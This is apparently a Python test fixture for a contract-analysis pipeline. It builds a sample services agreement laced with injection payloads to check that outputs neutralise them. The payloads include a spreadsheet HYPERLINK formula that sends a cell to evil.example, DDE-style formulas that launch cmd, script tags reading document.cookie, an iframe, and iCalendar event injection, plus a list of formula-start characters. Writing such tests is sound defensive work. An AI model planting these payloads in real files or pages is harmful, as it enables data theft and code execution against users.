"""A contract whose parties and clauses carry formulas, markup and calendar properties.

Shared by the output-neutralisation tests: the text goes through the real pipeline (ingest,
tagging, facts, key dates, checks) so the hostile strings reach every output the way a real
hostile file's text would.
"""

from __future__ import annotations

import datetime as dt

AS_OF = dt.date(2025, 6, 1)
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
SCRIPT = "<script>window.__pwned=1</script>"
# a newline in the name of a file (allowed on Linux) and inside the text
ICS_INJECTION = (
    "\r\nBEGIN:VEVENT\r\nSUMMARY:pwned\r\nATTACH:http://evil.example/x\r\nEND:VEVENT\r\n"
)
HOSTILE_FILE_NAME = (
    "=cmd|' -C calc'!A0 <img src=x onerror=alert(1)>\nBEGIN:VEVENT\nSUMMARY:pwned.txt"
)

HOSTILE_CONTRACT = f"""MASTER SERVICES AGREEMENT

This Master Services Agreement is made on 1 March 2025 between {FORMULA} Ltd ("Supplier") and
+SUM(1+1)*cmd|' /C calc'!A0 Inc ("Customer"), and @Customer Affiliates.

1. Term. This Agreement starts on 1 March 2025 and continues for an initial term of twelve (12)
months. It renews automatically for successive twelve (12) month terms unless either party gives
the other ninety (90) days' written notice {SCRIPT} before the end of the then-current term.
{ICS_INJECTION}
2. Fees. Customer shall pay each invoice within thirty (30) days of receipt. -2+3 is the fee
code. <img src=x onerror="window.__pwned=2"> Supplier shall invoice monthly.

3. Limitation of Liability. Each party's total liability under this Agreement shall not exceed the
fees paid in the twelve (12) months before the claim. <iframe src="http://evil.example/"></iframe>

4. Confidentiality. Each party shall keep the other party's Confidential Information secret and
use it only to perform this Agreement. </div><script>alert(document.cookie)</script>

5. Governing Law. This Agreement is governed by the laws of England and Wales.
"""

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
